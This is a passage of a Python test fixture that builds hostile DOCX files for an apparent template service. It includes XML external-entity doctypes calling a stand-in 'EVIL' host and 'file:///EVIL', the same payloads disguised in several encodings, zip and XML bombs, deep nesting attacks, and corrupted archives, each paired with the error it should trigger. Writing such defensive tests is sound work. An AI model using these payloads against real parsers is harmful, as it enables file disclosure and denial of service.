        changed({MAIN: declared("UTF-8", '<!DOCTYPE x SYSTEM "http://EVIL/x.dtd">').encode()}),
        DAMAGED,
    ),
    "doctype of parameters": (
        changed({MAIN: declared("UTF-8", '<!DOCTYPE x [<!ENTITY % a SYSTEM "file:///EVIL"> %a;]>').encode()}),
        DAMAGED,
    ),
    "doctype in UTF-16": (changed({MAIN: declared("UTF-16").encode("utf-16")}), DAMAGED),
    "doctype in UTF-16 without a mark": (changed({MAIN: declared("UTF-16").encode("utf-16-le")}), DAMAGED),
    "doctype in UTF-16, the other end first": (changed({MAIN: declared("UTF-16").encode("utf-16-be")}), DAMAGED),
    "doctype in UTF-32": (changed({MAIN: declared("UTF-32").encode("utf-32")}), DAMAGED),
    "doctype in UTF-7": (
        changed({MAIN: declared("UTF-7", DOCTYPE.replace("<", "+ADw-")).encode("ascii", "xmlcharrefreplace")}),
        DAMAGED,
    ),
    "doctype in EBCDIC": (changed({MAIN: declared("cp037", body="<a/>").encode("cp037")}), DAMAGED),
    "another encoding": (changed({MAIN: declared("ISO-8859-1", "").encode()}), DAMAGED),
    "doctype after a mark": (changed({MAIN: b"\xef\xbb\xbf" + declared("UTF-8").encode()}), DAMAGED),
    "doctype of a header": (changed({HEADER: DOCTYPE.encode() + dde_part("hdr")}), DAMAGED),
    "doctype of the styles": (changed({"word/styles.xml": f"{DOCTYPE}<x>&a;</x>".encode()}), DAMAGED),
    "doctype of the relations": (changed({MAIN_RELATIONS: DOCTYPE.encode() + parts()[MAIN_RELATIONS]}), DAMAGED),
    "doctype of the file's relations": (
        changed({PACKAGE_RELATIONS: DOCTYPE.encode() + parts()[PACKAGE_RELATIONS]}),
        DAMAGED,
    ),
    "doctype of the content types": (changed({TYPES: DOCTYPE.encode() + parts()[TYPES]}), DAMAGED),
    "entity that nobody declared": (changed(replace=(MAIN, b"<w:body>", b"<w:body>&EVIL;")), DAMAGED),
    "comment with something in it": (changed(replace=(MAIN, b"<w:body>", b"<w:body><!-- EVIL -->")), None),
    "instruction": (changed(replace=(MAIN, b"<w:body>", b"<w:body><?mso-application EVIL?>")), None),
}

# Too much, too deep, half.


def bomb(part: str, size: int, more: dict[str, bytes | None] | None = None) -> bytes:
    """A part of endless small elements."""
    return changed({part: b"<w:x>" + b"<b/>" * (size // 4) + b"</w:x>", **(more or {})})


TOO_LARGE, NESTED = "quá lớn", "quá nhiều lệnh if"
LARGE: dict[str, tuple[Callable[[], bytes], str | None]] = {
    "bomb: main part": (lambda: bomb(MAIN, 40_000_000), TOO_LARGE),
    "bomb: theme": (
        lambda: with_relation(bomb("word/theme/theme1.xml", 56_000_000), "theme", "theme/theme1.xml"),
        TOO_LARGE,
    ),
    "bomb: nobody leads there": (lambda: bomb("word/EVIL.xml", 56_000_000), None),
    "bomb: relations": (lambda: bomb(MAIN_RELATIONS, 40_000_000), TOO_LARGE),
    "bomb: content types": (lambda: bomb(TYPES, 40_000_000), TOO_LARGE),
    "bomb: a picture": (
        lambda: related("image", "a.png", {"word/a.png": png() + bytes(30_000_000)}),
        TOO_LARGE,
    ),
    "bomb: many pictures": (
        lambda: changed(
            {f"word/a{number}.png": png() + bytes(9_000_000) for number in range(9)},
            (
                MAIN_RELATIONS,
                b"</Relationships>",
                relations(*(("image", f"a{number}.png", "") for number in range(9))).partition(b">")[2],
            ),
        ),
        TOO_LARGE,
    ),
}
"""Attacks that are made when they are tried, each at its full size."""
ATTACKS |= {
    "bomb: many parts": (changed({f"word/EVIL{number}.xml": b"" for number in range(1_200)}), TOO_LARGE),
    "bomb: many relations": (
        changed({MAIN_RELATIONS: relations(*(("header", "header3.xml", "") for _ in range(900)))}),
        DAMAGED,
    ),
    "deep: elements": (in_body("<w:p>" * 5_000 + "</w:p>" * 5_000), DAMAGED),
    "deep: conditions": (
        in_paragraph(f"<w:r><w:t>{'{% if year %}' * 150}x{'{% endif %}' * 150}</w:t></w:r>"),
        NESTED,
    ),
    "deep: many conditions one after another": (
        in_paragraph(f"<w:r><w:t>{{% if year %}}{'{% elif year %}' * 5_000}{{% endif %}}</w:t></w:r>"),
        NESTED,
    ),
    "deep: else within else": (
        in_paragraph(
            f"<w:r><w:t>{'{% if year %}{% else %}' * 200}{'{% endif %}' * 200}</w:t></w:r>",
        ),
        NESTED,
    ),
    "deep: brackets": (
        in_paragraph(f"<w:r><w:t>{{% if {'(' * 5_000}year{')' * 5_000} %}}{{% endif %}}</w:t></w:r>"),
        NESTED,
    ),
    "deep: not not not": (
        in_paragraph(f"<w:r><w:t>{{% if {'not ' * 5_000}year %}}{{% endif %}}</w:t></w:r>"),
        NESTED,
    ),
    "deep: attributes": (
        in_paragraph(f"<w:r><w:t>{{{{ year{'.a' * 5_000} }}}}</w:t></w:r>"),
        NESTED,
    ),
    "half: cut": (SHIPPED[: len(SHIPPED) // 2], DAMAGED),
    "half: empty": (b"", DAMAGED),
    "half: only a beginning": (b"PK\x03\x04 half", DAMAGED),
    "half: something before it": (b"EVIL" + SHIPPED, DAMAGED),
    "half: no main part": (changed({MAIN: None}), DAMAGED),
    "half: no relations": (changed({PACKAGE_RELATIONS: None}), DAMAGED),
    "half: no content types": (changed({TYPES: None}), DAMAGED),
    "half: broken XML": (changed({MAIN: b"<w:document"}), DAMAGED),
    "old or protected": (OLE2, "có mật khẩu"),
}

NAMES = [*ATTACKS, *LARGE]
SAID = {name: said for name, (_, said) in (ATTACKS | LARGE).items()}


@cache
def attack(name: str) -> bytes:
    """The template of this name."""
    return LARGE[name][0]() if name in LARGE else ATTACKS[name][0]
